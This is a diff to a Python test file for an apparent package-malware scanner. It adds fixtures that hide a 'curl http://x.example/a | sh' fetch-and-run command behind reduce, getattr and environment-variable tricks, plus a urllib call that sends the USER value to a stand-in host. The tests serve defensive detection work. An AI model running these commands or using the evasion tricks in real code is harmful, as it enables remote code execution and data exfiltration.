@@ -29,6 +29,11 @@ CARRIED = {
     "variable": f"os.environ['Q'] = '{COMMAND}'\nos.system(os.environ['Q'])",
     "default of a variable": f"os.environ.setdefault('Q', '{COMMAND}')\nos.system(os.getenv('Q'))",
     "reduce": "import functools\nos.system(functools.reduce(lambda a, b: a + b, ['cu', 'rl http://x.example/a | sh']))",
+    "attribute by reduce": f"import functools\nfunctools.reduce(getattr, ['system'], os)('{COMMAND}')",
+    "sum by reduce": "import functools, operator\nos.system(functools.reduce(operator.add, ['cu', 'rl http://x.example/a | sh']))",
+    "variable that is set between two calls": (
+        f"def f():\n os.system(os.getenv('Q'))\nf()\nos.environ['Q'] = '{COMMAND}'\nf()"
+    ),
     "chain": "import itertools\nos.system(''.join(itertools.chain(['cu'], ['rl http://x.example/a | sh'])))",
     "match": f"match {{'k': '{COMMAND}'}}:\n case {{'k': v}}:\n  os.system(v)",
     "globals": f"globals()['q'] = '{COMMAND}'\nos.system(q)",
@@ -67,6 +72,16 @@ CARRIED = {
 def test_command_is_followed(way: str) -> None:
     found = observe(distribution_of({"pkg/__init__.py": f"import os\n{CARRIED[way]}\n"}))
     assert {"shell_download", "proc_spawn_unasked"} <= {item.feature for item in found}
+
+
+def test_variable_that_is_set_keeps_what_it_was() -> None:
+    source = (
+        "import os, urllib.request\nif 0:\n os.environ['USER'] = 'me'\n"
+        "urllib.request.urlopen('http://x.example/' + os.environ['USER'])\n"
+    )
+    found = {item.feature for item in observe(distribution_of({"pkg/__init__.py": source}))}
+    plain = source.replace("os.environ['USER'] = 'me'", "pass")
+    assert found >= {i.feature for i in observe(distribution_of({"pkg/__init__.py": plain}))}
 
 
 def test_pickle_in_the_code_that_starts_a_program() -> None:
